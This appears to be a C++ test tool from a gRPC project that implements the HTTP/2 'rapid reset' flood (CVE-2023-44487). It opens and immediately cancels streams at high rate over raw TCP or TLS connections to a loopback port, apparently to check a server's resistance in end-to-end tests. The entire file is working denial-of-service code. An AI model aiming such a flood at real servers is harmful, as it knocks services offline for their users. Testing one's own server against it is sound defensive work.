// h2_flood: an HTTP/2 "rapid reset" flood (CVE-2023-44487) against a gRPC
// server, from raw sockets: each connection sends the client preface and
// SETTINGS, then as fast as it can a HEADERS frame opening a gRPC call
// followed at once by RST_STREAM(CANCEL), on stream after stream. Server
// frames are read and dropped (SETTINGS are acknowledged); a connection the
// server closes is reopened.
//
//   h2_flood --port=50051 [--connections=4] [--seconds=10]
//            [--path=/pkg.Svc/Method] [--source=127.0.0.2]
//            [--tls [--cert=client.pem --key=client.key]]
//
// --tls speaks TLS (OpenSSL, ALPN h2, the server's certificate not
// checked: the flood is the attacker), presenting a client certificate
// when given one (a mutual-TLS port admits only those).
// --source binds the flood's connections to that local address (so that on
// one machine the flood and a legitimate client come from different
// addresses, as they would in the field). Prints one line: streams opened
// and reset (sent in full), connections opened, seconds.
// Used by tests/e2e/flood_test.cc; run longer by hand (docs/security.md).
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

namespace {

std::string Frame(uint8_t type, uint8_t flags, uint32_t stream,
                  const std::string& payload) {
  std::string f;
  uint32_t n = static_cast<uint32_t>(payload.size());
  f.push_back(static_cast<char>((n >> 16) & 0xff));
  f.push_back(static_cast<char>((n >> 8) & 0xff));
  f.push_back(static_cast<char>(n & 0xff));
  f.push_back(static_cast<char>(type));
  f.push_back(static_cast<char>(flags));
  f.push_back(static_cast<char>((stream >> 24) & 0x7f));  // reserved bit 0
  f.push_back(static_cast<char>((stream >> 16) & 0xff));
  f.push_back(static_cast<char>((stream >> 8) & 0xff));
  f.push_back(static_cast<char>(stream & 0xff));
  return f + payload;
}

// HPACK "literal header field without indexing, new name", no Huffman;
// every name and value here is shorter than 127 bytes.
std::string Literal(const std::string& name, const std::string& value) {
  std::string out(1, '\0');
  out.push_back(static_cast<char>(name.size()));
  out += name;
  out.push_back(static_cast<char>(value.size()));
  out += value;
  return out;
}

constexpr uint8_t kHeaders = 0x1, kRstStream = 0x3, kSettings = 0x4;
constexpr uint8_t kEndHeaders = 0x4, kAck = 0x1;

// One flooding connection: a plain socket, or TLS over a non-blocking one
// (the writer and the drain thread then take turns on the session).
struct Link {
  int fd = -1;
  SSL* ssl = nullptr;
  std::mutex mu;  // TLS: one thread in the session at a time
};

bool SendAll(Link& link, const std::string& bytes) {
  size_t done = 0;
  while (done < bytes.size()) {
    if (link.ssl == nullptr) {
      ssize_t n = ::send(link.fd, bytes.data() + done, bytes.size() - done,
                         MSG_NOSIGNAL);
      if (n <= 0) return false;
      done += static_cast<size_t>(n);
      continue;
    }
    int error = 0;
    {
      std::lock_guard<std::mutex> lock(link.mu);
      size_t n = 0;
      if (SSL_write_ex(link.ssl, bytes.data() + done, bytes.size() - done,
                       &n) == 1) {
        done += n;
        continue;
      }
      error = SSL_get_error(link.ssl, 0);
    }
    if (error != SSL_ERROR_WANT_WRITE && error != SSL_ERROR_WANT_READ) {
      return false;
    }
    pollfd p{link.fd, POLLOUT, 0};
    ::poll(&p, 1, 20);
  }
  return true;
}

// TLS client handshake on a connected socket, which it leaves non-blocking.
SSL* StartTls(SSL_CTX* ctx, int fd) {
  SSL* ssl = SSL_new(ctx);
  SSL_set_fd(ssl, fd);
  if (SSL_connect(ssl) != 1) {
    SSL_free(ssl);
    return nullptr;
  }
  ::fcntl(fd, F_SETFL, ::fcntl(fd, F_GETFL) | O_NONBLOCK);
  return ssl;
}

int Connect(int port, const std::string& source) {
  int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return -1;
  int one = 1;
  ::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
  if (!source.empty()) {
    sockaddr_in local{};
    local.sin_family = AF_INET;
    inet_pton(AF_INET, source.c_str(), &local.sin_addr);
    if (::bind(fd, reinterpret_cast<sockaddr*>(&local), sizeof(local)) != 0) {
      ::close(fd);
      return -1;
    }
  }
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<uint16_t>(port));
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    ::close(fd);
    return -1;
  }
  return fd;
}

// Reads what the server sent: bytes (> 0), nothing yet (0), or the end
// (-1).
ssize_t ReadSome(Link& link, char* p, size_t n) {
  if (link.ssl == nullptr) {
    ssize_t r = ::recv(link.fd, p, n, 0);
    return r > 0 ? r : -1;
  }
  pollfd wait{link.fd, POLLIN, 0};
  ::poll(&wait, 1, 100);
  std::lock_guard<std::mutex> lock(link.mu);
  size_t got = 0;
  if (SSL_read_ex(link.ssl, p, n, &got) == 1) return static_cast<ssize_t>(got);
  const int error = SSL_get_error(link.ssl, 0);
  return error == SSL_ERROR_WANT_READ || error == SSL_ERROR_WANT_WRITE ? 0 : -1;
}

// Reads and drops server frames, acknowledging SETTINGS, until the socket
// closes.
void Drain(Link* link) {
  std::string buffer;
  char chunk[65536];
  for (;;) {
    ssize_t n = ReadSome(*link, chunk, sizeof(chunk));
    if (n < 0) return;
    buffer.append(chunk, static_cast<size_t>(n));
    while (buffer.size() >= 9) {
      uint32_t len = (static_cast<uint8_t>(buffer[0]) << 16) |
                     (static_cast<uint8_t>(buffer[1]) << 8) |
                     static_cast<uint8_t>(buffer[2]);
      if (buffer.size() < 9 + len) break;
      if (static_cast<uint8_t>(buffer[3]) == kSettings &&
          (static_cast<uint8_t>(buffer[4]) & kAck) == 0) {
        SendAll(*link, Frame(kSettings, kAck, 0, ""));
      }
      buffer.erase(0, 9 + len);
    }
  }
}

std::string FlagValue(int argc, char** argv, const std::string& name,
                      const std::string& def) {
  std::string prefix = "--" + name + "=";
  for (int i = 1; i < argc; ++i) {
    if (std::strncmp(argv[i], prefix.c_str(), prefix.size()) == 0) {
      return argv[i] + prefix.size();
    }
  }
  return def;
}

}  // namespace

int main(int argc, char** argv) {
  const int port = std::atoi(FlagValue(argc, argv, "port", "0").c_str());
  const int connections =
      std::atoi(FlagValue(argc, argv, "connections", "4").c_str());
  const double seconds =
      std::atof(FlagValue(argc, argv, "seconds", "10").c_str());
  const std::string path =
      FlagValue(argc, argv, "path", "/techmatch.v1.OfferService/GetOffer");
  const std::string source = FlagValue(argc, argv, "source", "");
  std::signal(SIGPIPE, SIG_IGN);  // TLS writes to closed connections
  bool tls = false;
  for (int i = 1; i < argc; ++i)
    tls = tls || std::strcmp(argv[i], "--tls") == 0;
  SSL_CTX* ctx = nullptr;
  if (tls) {
    ctx = SSL_CTX_new(TLS_client_method());
    static const unsigned char kAlpn[] = {2, 'h', '2'};
    SSL_CTX_set_alpn_protos(ctx, kAlpn, sizeof(kAlpn));
    SSL_CTX_set_mode(ctx, SSL_MODE_ENABLE_PARTIAL_WRITE |
                              SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
    const std::string cert = FlagValue(argc, argv, "cert", "");
    const std::string key = FlagValue(argc, argv, "key", "");
    if (!cert.empty() &&
        (SSL_CTX_use_certificate_chain_file(ctx, cert.c_str()) != 1 ||
         SSL_CTX_use_PrivateKey_file(ctx, key.c_str(), SSL_FILETYPE_PEM) !=
             1)) {
      std::fprintf(stderr, "h2_flood: cannot read %s / %s\n", cert.c_str(),
                   key.c_str());
      return 2;
    }
  }
  if (port <= 0) {
    std::fprintf(stderr, "h2_flood: --port is required\n");
    return 2;
  }
  std::string block =
      std::string(1, static_cast<char>(0x83)) +  // :method POST (static 3)
      std::string(1, static_cast<char>(0x86)) +  // :scheme http (static 6)
      Literal(":path", path) +
      Literal(":authority", "127.0.0.1:" + std::to_string(port)) +
      Literal("content-type", "application/grpc") + Literal("te", "trailers");
  std::string cancel("\0\0\0\x08", 4);  // CANCEL
  std::atomic<int64_t> streams{0}, opened{0};
  const auto end =
      std::chrono::steady_clock::now() +
      std::chrono::milliseconds(static_cast<int64_t>(seconds * 1000));
  std::vector<std::thread> threads;
  for (int c = 0; c < connections; ++c) {
    threads.emplace_back([&] {
      while (std::chrono::steady_clock::now() < end) {
        Link link;
        link.fd = Connect(port, source);
        if (link.fd >= 0 && ctx != nullptr) {
          link.ssl = StartTls(ctx, link.fd);
          if (link.ssl == nullptr) {
            ::close(link.fd);
            link.fd = -1;
          }
        }
        if (link.fd < 0) {
          std::this_thread::sleep_for(std::chrono::milliseconds(50));
          continue;
        }
        ++opened;
        std::thread drain(Drain, &link);
        bool ok = SendAll(link, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") &&
                  SendAll(link, Frame(kSettings, 0, 0, ""));
        std::string batch;
        int64_t in_batch = 0;
        for (uint32_t id = 1;
             ok && id < (1u << 30) && std::chrono::steady_clock::now() < end;
             id += 2) {
          batch += Frame(kHeaders, kEndHeaders, id, block);
          batch += Frame(kRstStream, 0, id, cancel);
          ++in_batch;
          if (batch.size() > 16384) {
            ok = SendAll(link, batch);
            if (ok) streams += in_batch;
            batch.clear();
            in_batch = 0;
          }
        }
        ::shutdown(link.fd, SHUT_RDWR);
        drain.join();
        SSL_free(link.ssl);
        ::close(link.fd);
      }
    });
  }
  for (auto& t : threads) t.join();
  SSL_CTX_free(ctx);
  std::printf(
      "h2_flood: %lld streams opened and reset on %lld connections in %.1f s\n",
      static_cast<long long>(streams.load()),
      static_cast<long long>(opened.load()), seconds);
  return 0;
}
